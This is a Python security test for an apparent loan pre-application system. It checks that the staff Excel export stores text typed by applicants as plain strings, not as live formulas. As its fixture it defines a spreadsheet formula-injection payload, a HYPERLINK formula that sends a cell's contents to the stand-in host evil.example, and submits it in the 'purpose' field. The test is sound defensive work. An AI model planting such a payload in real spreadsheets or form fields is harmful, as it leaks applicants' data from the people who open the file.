"""Security review: text that applicants typed never becomes a live formula in an exported 台账."""
from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.support.builders import with_check_digit
from tests.support.staff import build_world, token
from tests.support.staff import cheap_hashing  # noqa: F401  (autouse fixture)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看材料")'


async def test_a_formula_typed_into_an_application_is_exported_as_plain_text(client):
    from handlers.applications.loans import submit_loan_preapplication
    from handlers.users import find_or_create_user

    await build_world()
    user = await find_or_create_user("mp", "openid-formula")
    app, _ = await submit_loan_preapplication(user.id, {
        "product": "创业担保贷款", "category": "返乡创业农民工", "county": "楚雄市", "business_type": "=1+1",
        "amount": 100000, "purpose": FORMULA, "name": "张建华",
        "id_number": with_check_digit("53230119900101999"), "phone": "13812340999"})
    resp = await client.get("/api/v1/staff/export/loan-applications.xlsx", headers=await token(client, "pref"))
    assert resp.status == 200
    sheet = load_workbook(io.BytesIO(await resp.read())).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == app.id)
    cells = {c.value: c for c in row}
    assert cells[FORMULA].data_type == "s" and cells["=1+1"].data_type == "s"
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
